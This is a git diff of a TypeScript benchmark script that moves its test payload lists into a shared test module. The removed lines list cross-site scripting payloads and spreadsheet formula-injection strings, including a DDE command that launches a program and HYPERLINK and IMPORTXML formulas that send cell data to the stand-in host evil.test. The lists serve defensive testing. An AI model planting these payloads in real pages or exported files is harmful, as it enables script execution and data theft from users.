@@ -17,6 +17,7 @@ import { parse as parseCsv } from 'csv-parse/sync';
 import { parse } from 'yaml';
 import { Company } from '../src/core/framework/company/company.ts';
 import { addressOf, screens } from '../src/web/screens.ts';
+import { formulas, scripts } from '../test/support/attack-texts.ts';
 import { type WebHouse, webHouse } from '../test/support/web-house.ts';
 import { sendHtml, type WebServer, webServer } from '../test/support/web-server.ts';
 
@@ -25,35 +26,6 @@ const folder = mkdtempSync(join(tmpdir(), 'maillage-payloads-'));
 const print = (figure: object): void =>
   void process.stdout.write(`${JSON.stringify({ bench: 'payloads', ...figure })}\n`);
 
-/** Each sets `window.ran` where it is written as markup, as an address or as a template. */
-const scripts = [
-  '"><img src=x onerror=window.ran=1>',
-  '</title><script>window.ran=2</script>',
-  '<svg/onload=window.ran=3>',
-  'javascript:window.ran=4//',
-  '{{constructor.constructor("window.ran=5")()}}',
-  '${window.ran=6}',
-  '<a href="javascript:window.ran=7">x</a>',
-  "'-window.ran=8-'",
-  '</script><script>window.ran=9</script>',
-  '<!--><img src=x onerror=window.ran=10>',
-];
-const formulas = [
-  '=1+1',
-  '+1+1',
-  '-1+1',
-  '@SUM(1,1)',
-  '\t=1+1',
-  '\r=1+1',
-  "=cmd|' /C calc'!A0",
-  '=HYPERLINK("http://evil.test/?x="&A1,"click")',
-  '=IMPORTXML("http://evil.test","//a")',
-  ' =1+1',
-  '\uFF1D1+1',
-  '";=1+1;"',
-  '=1+1\n=2+2',
-  '%0A-3+3',
-];
 const payloads = [...scripts, ...formulas];
 const payload = (at: number): string => payloads[at % payloads.length]!;
 const asText = (text: string): string =>
